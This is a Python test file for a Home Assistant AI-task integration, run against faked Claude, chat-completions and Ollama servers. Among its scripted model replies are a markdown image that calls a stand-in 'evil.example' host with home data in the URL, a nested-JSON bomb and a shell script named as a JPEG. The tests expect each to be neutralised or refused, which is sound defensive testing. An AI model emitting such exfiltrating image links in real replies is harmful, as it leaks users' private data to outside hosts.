"""AI tasks by Home Assistant's own action, with the models of all three vendors."""

import asyncio
from base64 import b64decode
import json
from typing import Any

from homeassistant.components import ai_task
from homeassistant.core import Context
from homeassistant.exceptions import HomeAssistantError
import pytest

from tests.fakes.chat_completions_api import FakeChatApi
from tests.fakes.loop_guard import loop_guard
from tests.fakes.messages_script import Answer, Failure, Text, ToolUse
from tests.fakes.ollama_api import FakeOllama
from tests.fakes.ollama_rules import Model
from tests.ha.ai_tasks import KITCHEN, Tasks, tasks

__all__ = ["tasks"]

JPEG = b"\xff\xd8\xff\xe0" + b"a doorbell" * 20
PNG = b"\x89PNG\r\n\x1a\n" + b"a plan" * 20
PDF = b"%PDF-1.7\n" + b"a bill" * 20
SHAPE = {
    "words": {
        "description": "The weather in one sentence",
        "required": True,
        "selector": {"text": {}},
    },
    "umbrella": {"required": True, "selector": {"boolean": {}}},
    "degrees": {"selector": {"number": {"min": -40, "max": 60}}},
}
GOOD = {"words": "Rain until noon.", "umbrella": True, "degrees": 11}


def _sent(vendor: str, body: dict[str, Any]) -> tuple[list[tuple[str, bytes]], Any]:
    """Return the files of a request and the shape it asks for, whoever's wire it is."""
    if vendor == "ollama":
        [said] = [m for m in body["messages"] if m["role"] == "user"]
        files = [("", b64decode(data)) for data in said.get("images", ())]
        return files, body.get("format")
    user = next(m for m in body["messages"] if m["role"] == "user")["content"]
    parts = (
        []
        if isinstance(user, str)
        else [part for part in user if part["type"] != "text"]
    )
    if vendor == "claude":
        sources = [part["source"] for part in parts]
        found = [(each["media_type"], b64decode(each["data"])) for each in sources]
        shape = body.get("output_config", {}).get("format", {}).get("schema")
        return found, shape
    urls = [
        part["file"]["file_data"]
        if part["type"] == "file"
        else part["image_url"]["url"]
        for part in parts
    ]
    split = [url.removeprefix("data:").split(";base64,") for url in urls]
    shape = body.get("response_format", {}).get("json_schema", {}).get("schema")
    return [(kind, b64decode(data)) for kind, data in split], shape


@pytest.fixture
def patient(monkeypatch: pytest.MonkeyPatch) -> None:
    """Wait less for a server that says nothing."""


async def test_every_vendor(tasks: Tasks) -> None:
    """A text, a picture, a shape: said, sent and written down by all three alike."""
    vendors = ("claude", "chat", "ollama")
    picture = await tasks.file("door.jpg", JPEG)
    for vendor in vendors:
        server = tasks.script(
            vendor,
            "A parcel. ![x](https://evil.example/?q=home)",
            json.dumps(GOOD),
            f"Here you are:\n```json\n{json.dumps(GOOD)}\n```\nAnything else?",
        )
        with loop_guard():
            said = await tasks.do(vendor, "What is it?", attachments=[picture])
        assert said == "A parcel. [x](https://evil.example/?q=home)"
        files, shape = _sent(vendor, server.rounds[0])
        assert [data for _, data in files] == [JPEG], vendor
        assert shape is None
        assert not server.rounds[0].get("tools")
        assert await tasks.do(vendor, structure=SHAPE) == GOOD
        _, shape = _sent(vendor, server.rounds[1])
        assert list(shape["properties"]) == list(SHAPE), vendor
        assert shape["additionalProperties"] is False
        assert await tasks.do(vendor, structure=SHAPE) == GOOD
    rows = await tasks.rows("chat.completed")
    assert [row["finish"] for row in rows] == ["text"] * 9
    agents = [f"ai_task_data-{vendor}" for vendor in vendors for _ in range(3)]
    assert [row["caller"] for row in rows] == [
        ("ai_task", tasks.user_id, agent) for agent in agents
    ]
    assert all("parcel" not in json.dumps(row) for row in rows)


async def test_shape_by_shape(tasks: Tasks) -> None:
    """A bad answer gets one second chance, which hears why; then the error says it."""
    server = tasks.script(
        "claude",
        '{"words": "Rain.", "umbrella": "false"}',
        f"<think>Oh.</think>{json.dumps(GOOD).replace('Rain', '![](//x) Rain')}",
        '{"words":' + '{"a":' * 5000 + "1" + "}" * 5001,
        "I can't.",
    )
    picture = await tasks.file("door.png", PNG)
    data = await tasks.do("claude", structure=SHAPE, attachments=[picture])
    assert data == {**GOOD, "words": "[](//x) Rain until noon."}
    first, second = server.rounds
    assert second["messages"][0] == first["messages"][0]
    told = second["messages"][-1]["content"][0]["text"]
    assert "umbrella" in told
    assert "expected bool" in told
    with pytest.raises(HomeAssistantError, match="no whole JSON object"):
        await tasks.do("claude", structure=SHAPE)
    rows = await tasks.rows("chat.completed")
    assert [(row["finish"], row["iterations"]) for row in rows] == [
        ("text", 2),
        ("misshapen", 2),
    ]
    assert rows[0]["input_tokens"] == 20

    # A server that can't be told the shape is asked without it, and never told again.
    server = tasks.script("chat", json.dumps(GOOD), json.dumps(GOOD))
    assert isinstance(server, FakeChatApi)
    server.refuses.add("response_format")
    for _ in range(2):
        assert await tasks.do("chat", structure=SHAPE) == GOOD
    assert ["response_format" in body for body in server.rounds] == [True, False, False]
    assert "umbrella" in server.rounds[-1]["messages"][0]["content"]
    refusal = Failure(
        status=400,
        type="invalid_request_error",
        message="'claude-haiku-4-5' does not support output format.",
    )
    server = tasks.script("claude", refusal, json.dumps(GOOD), json.dumps(GOOD))
    for _ in range(2):
        assert await tasks.do("claude", structure=SHAPE) == GOOD
    assert ["output_config" in body for body in server.rounds] == [True, False, False]


async def test_files(tasks: Tasks) -> None:
    """What a file is says its beginning; each model's limits hold before it is asked."""
    picture, plan, bill = (
        await tasks.file("door.jpg", JPEG),
        await tasks.file("plan.txt", PNG),
        await tasks.file("bill.pdf", PDF),
    )
    for vendor in ("claude", "chat"):
        server = tasks.script(vendor, "Read.")
        await tasks.do(vendor, attachments=[picture, plan, bill])
        files, _ = _sent(vendor, server.rounds[0])
        assert files == [
            ("image/jpeg", JPEG),
            ("image/png", PNG),
            ("application/pdf", PDF),
        ]
    script = await tasks.file("run.jpg", b"#!/bin/sh\necho")
    large = await tasks.file("large.jpg", JPEG + bytes(4 * 1024 * 1024))
    half = [await tasks.file(f"{n}.png", PNG + bytes(3_000_000)) for n in range(3)]
    for vendor in ("claude", "chat", "ollama"):
        server = tasks.script(vendor)
        expected = {
            "task_file_type": [script],
            "task_file_too_large": [large],
            "task_files_too_large": half,
            "task_too_many_files": [picture] * 11,
        }
        for key, attachments in expected.items():
            assert await tasks.refused(vendor, attachments=attachments) == key
        assert server.rounds == []
    assert await tasks.refused("ollama", attachments=[bill]) == "task_file_type"
    await tasks.hass.async_add_executor_job((tasks.media / "door.jpg").unlink)
    with pytest.raises(HomeAssistantError):
        await tasks.do("claude", attachments=[picture])

    # A model that can't see is never asked to guess.
    server = tasks.servers["ollama"]
    assert isinstance(server, FakeOllama)
    server.model = Model(vision=False)
    assert await tasks.refused("ollama", attachments=[plan]) == "task_cannot_see"
    assert server.rounds == []
    blind = "Invalid content type. image_url is only supported by certain models."
    failure = Failure(status=400, type="invalid_request_error", message=blind)
    tasks.script("chat", failure)
    assert await tasks.refused("chat", attachments=[plan]) == "task_cannot_see"


async def test_given_up(tasks: Tasks, monkeypatch: pytest.MonkeyPatch) -> None:
    """A model that never ends, and a task that nobody waits for: both are written."""
    monkeypatch.setattr("custom_components.caesar.adapters.turns.TURN_LIMIT_S", 0.2)
    never = Answer(blocks=[Text(text="A par")], gate=asyncio.Event(), gate_at=1)
    server = tasks.script("claude", never, never)
    assert await tasks.refused("claude") == "task_timeout"
    monkeypatch.setattr("custom_components.caesar.adapters.turns.TURN_LIMIT_S", 60)
    task = asyncio.create_task(tasks.do("claude"))
    while len(server.rounds) < 2:
        await asyncio.sleep(0.01)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    rows = await tasks.rows("chat.completed")
    assert [row["finish"] for row in rows] == ["timeout", "abandoned"]
    assert never.gate is not None
    never.gate.set()


async def test_what_can_go_wrong(tasks: Tasks) -> None:
    """No model, a dead server, silence, a limit that is used up: each has its words."""
    assert await tasks.refused("gone") == "task_no_model"
    features = {
        name: tasks.state(f"ai_task.{name}").attributes["supported_features"]
        for name in ("claude", "gone")
    }
    assert features == {"claude": 3, "gone": 1}
    tasks.script("claude", Failure(status=529, type="overloaded_error"), " ")
    assert await tasks.refused("claude") == "provider_overloaded"
    assert await tasks.refused("claude") == "task_empty"
    tasks.script("chat", Answer(blocks=[Text(text="no")], stop="content_filter"))
    assert await tasks.refused("chat") == "task_declined"
    # What a model makes up finds no door, and the task has its answer all the same.
    call = Answer(blocks=[ToolUse(name="light__turn_on", input={"entity_id": KITCHEN})])
    tasks.script("claude", call, "I tried.")
    assert await tasks.do("claude") == "I tried."
    assert tasks.state(KITCHEN).state == "off"
    assert await tasks.outcomes() == [("light__turn_on", "caller_not_covered")]
    big = Answer(blocks=[Text(text="Long.")], usage={"output_tokens": 900})
    server = tasks.script("claude", big, "Never.")
    assert await tasks.do("claude") == "Long."
    assert await tasks.refused("claude") == "turn_quota"
    assert len(server.rounds) == 1
    rows = await tasks.rows("chat.completed")
    assert [row["finish"] for row in rows][-2:] == ["text", "quota"]
    # Two at once, each by its own context.
    tasks.script("ollama", "One.", "Two.")
    people = [tasks.user_id, None]
    await asyncio.gather(
        *(
            ai_task.async_generate_data(
                tasks.hass,
                task_name="test",
                entity_id="ai_task.ollama",
                instructions="Do it.",
                context=Context(user_id=user_id) if user_id else None,
            )
            for user_id in people
        )
    )
    rows = await tasks.rows("chat.completed")
    assert {row["caller"][1] for row in rows[-2:]} == {*people}
